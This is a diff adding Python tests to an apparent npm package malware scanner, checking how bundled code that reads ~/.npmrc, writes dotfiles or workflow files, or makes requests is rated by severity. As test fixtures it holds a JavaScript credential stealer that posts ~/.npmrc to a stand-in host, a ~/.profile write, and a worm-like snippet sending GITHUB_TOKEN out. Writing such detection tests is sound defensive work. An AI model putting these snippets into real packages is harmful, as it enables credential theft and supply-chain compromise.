@@ -152,3 +152,69 @@ def test_remote_script_is_high_and_moderate_when_it_was_always_there() -> None:
     assert worst(new, package({"index.js": clean}))[0] is Severity.HIGH
     severity, summaries = worst(new, package({"index.js": loader + "// 1.0.0\n"}))
     assert severity is Severity.MODERATE and "already in 1.0.0" in summaries[0]
+
+
+def _bundle_module(index: int) -> str:
+    """One module of an esbuild-style bundle: ordinary code, about 1 KB."""
+    return (f"var m{index} = __commonJS((exports, module) => {{\n"
+            + "".join(f"  function f{index}_{j}(a, b) {{ return a.map((x) => x * {j} + b).filter(Boolean); }}\n"
+                      for j in range(12))
+            + "});\n")
+
+
+def bundle(*parts: str, padding_kb: int = 600) -> str:
+    """`parts` placed apart from one another in a bundle of `padding_kb` KB of modules."""
+    modules = [_bundle_module(i) for i in range(padding_kb)]
+    step = len(modules) // (len(parts) + 1)
+    for n, part in enumerate(parts, 1):
+        modules.insert(n * step + n - 1, part)
+    return "".join(modules)
+
+
+NPMRC_PREFIX = ("var prefix = __commonJS(() => {\n"
+                "  const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
+                "  module.exports = /prefix=(.*)/.exec(rc);\n});\n")
+HTTP_CLIENT = ("var client = __commonJS(() => {\n  const https = require('https');\n"
+               "  module.exports = (u) => https.get(u);\n});\n")
+
+
+def test_a_bundle_whose_modules_read_npmrc_and_make_requests_far_apart_is_moderate() -> None:
+    """A CLI bundle (prisma, yarn): one module reads ~/.npmrc for a prefix, another is an
+    HTTP client 300 KB away. Not a credential thief: moderate, and it says why."""
+    severity, summaries = worst(package({"cli.js": bundle(NPMRC_PREFIX, HTTP_CLIENT)}, main="cli.js"))
+    assert severity is Severity.MODERATE
+    assert "in other code of this" in summaries[0] and "bundle" in summaries[0]
+
+
+def test_a_stealer_inside_a_bundle_is_still_high_and_critical_at_install() -> None:
+    stealer = ("var x = __commonJS(() => {\n"
+               "  const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
+               "  require('https').request({ host: 'exfil.example.invalid', method: 'POST' }).end(rc);\n});\n")
+    severity, _ = worst(package({"cli.js": bundle(stealer)}, main="cli.js"))
+    assert severity is Severity.HIGH
+    severity, _ = worst(package({"cli.js": bundle(stealer)}, main="cli.js",
+                                scripts={"postinstall": "node cli.js"}))
+    assert severity is Severity.CRITICAL
+
+
+def test_a_property_named_like_a_dot_file_is_not_a_write_outside_the_package() -> None:
+    """next's cpu-profile.js: `writeFileSync(outputPath, JSON.stringify(param.profile))`."""
+    code = "const fs = require('fs');\nfs.writeFileSync(outputPath, JSON.stringify(param.profile));\n"
+    assert worst(package({"index.js": code}))[0] is None
+    planted = "const fs = require('fs');\nfs.writeFileSync(require('os').homedir() + '/.profile', 'x');\n"
+    severity, summaries = worst(package({"index.js": planted}))
+    assert severity is Severity.HIGH and "writes into" in summaries[0]
+
+
+def test_a_project_generator_writing_a_workflow_is_moderate_a_worm_planting_one_is_high() -> None:
+    """playwright's `init-agents` writes .github/workflows/copilot-setup-steps.yml; a worm writes
+    one beside a token and a request, or at install time."""
+    generator = ("const fs = require('fs');\n"
+                 "fs.writeFileSync('.github/workflows/copilot-setup-steps.yml', yaml);\n")
+    severity, summaries = worst(package({"index.js": generator}))
+    assert severity is Severity.MODERATE and "as a project generator does" in summaries[0]
+    worm = generator + ("const token = process.env.GITHUB_TOKEN;\n"
+                        "fetch('https://api.example.invalid/repos', { headers: { authorization: token } });\n")
+    assert worst(package({"index.js": worm}))[0] in (Severity.HIGH, Severity.CRITICAL)
+    severity, _ = worst(package({"setup.js": generator}, scripts={"postinstall": "node setup.js"}))
+    assert severity is Severity.HIGH
